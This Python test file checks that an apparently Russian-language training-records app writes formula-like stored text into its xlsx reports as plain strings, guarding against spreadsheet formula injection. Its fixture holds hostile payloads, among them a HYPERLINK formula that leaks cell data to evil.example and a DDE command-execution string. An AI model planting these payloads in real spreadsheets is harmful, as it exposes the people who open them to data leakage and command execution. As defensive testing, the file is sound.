"""Hostile stored text leaves every xlsx writer as a string cell, never as a formula (OWASP CSV injection)."""
from __future__ import annotations

import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from app.cli import main

HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажмите\")", "=cmd|' /C calc'!A0", "+7(999)SUM(A1)",
           "@SUM(1+1)", "-2+3")
ORG = HOSTILE[1]
EVENT = HOSTILE[0]


@pytest.fixture
def hostile(db_path, records):
    org = records.create("organizations", {"full_name": ORG, "short_name": "@SUM(1+1)", "kind": "school"})
    teacher = records.create("teachers", {"last_name": "Иванова", "first_name": "Анна",
                                          "organization_id": org["id"], "position": "+7(999)SUM(A1)"})
    event = records.create("events", {"title": EVENT, "kind": "seminar", "format": "in_person",
                                       "starts_on": date(2026, 3, 10), "plan_year": 2026, "hours": 4,
                                       "venue": HOSTILE[4]})
    records.create("event_organizers", {"event_id": event["id"], "organization_id": org["id"]})
    records.create("participations", {"event_id": event["id"], "teacher_id": teacher["id"],
                                      "attendance": "present"})
    return db_path


def sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def strings_of(path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def assert_text_not_formula(path, *texts):
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    found = strings_of(path)
    for t in texts:
        assert any(t in s for s in found), f"{t!r} not written as text"


@pytest.mark.parametrize("report", ["participants", "events"])
def test_reports_write_formula_like_text_as_strings(hostile, tmp_path, capsys, report):
    out = tmp_path / f"{report}.xlsx"
    code = main(["--db", str(hostile), "report", report, "--from", "01.01.2026", "--to", "31.12.2026",
                 "--out", str(out)])
    assert code == 0, capsys.readouterr()
    assert_text_not_formula(out, ORG if report == "participants" else EVENT)


def test_events_plan_writes_formula_like_titles_as_strings(hostile, tmp_path, capsys):
    out = tmp_path / "plan.xlsx"
    assert main(["--db", str(hostile), "export", "--year", "2026", "--out", str(out), "plan"]) == 0, \
        capsys.readouterr()
    assert_text_not_formula(out, EVENT)


def test_audit_export_writes_formula_like_summaries_as_strings(hostile, tmp_path, capsys):
    out = tmp_path / "audit.xlsx"
    assert main(["--db", str(hostile), "audit", "--out", str(out)]) == 0, capsys.readouterr()
    assert_text_not_formula(out, EVENT)


def test_numbers_and_dates_stay_typed(hostile, tmp_path, capsys):
    out = tmp_path / "events.xlsx"
    main(["--db", str(hostile), "report", "events", "--from", "01.01.2026", "--to", "31.12.2026",
          "--out", str(out)])
    values = [c.value for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, (int, float)) and not isinstance(v, bool) for v in values)
    assert any(hasattr(v, "year") for v in values)


def test_a_killed_writer_s_temporary_file_goes_at_the_next_write_of_the_target(tmp_path):
    from app.export.atomic_file import EXCEL, write_atomically

    target = tmp_path / "Охват ПК.xlsx"
    stale = tmp_path / ".~Охват ПКab12cd_9.xlsx"
    stale.write_bytes(b"half")
    other = tmp_path / ".~Другой отчётab12cd_9.xlsx"          # another target's: not ours to delete
    other.write_bytes(b"half")
    write_atomically(target, lambda tmp: open(tmp, "wb").write(b"whole"), what="отчёт", hint=EXCEL)
    assert target.read_bytes() == b"whole"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".~Другой отчётab12cd_9.xlsx", "Охват ПК.xlsx"]
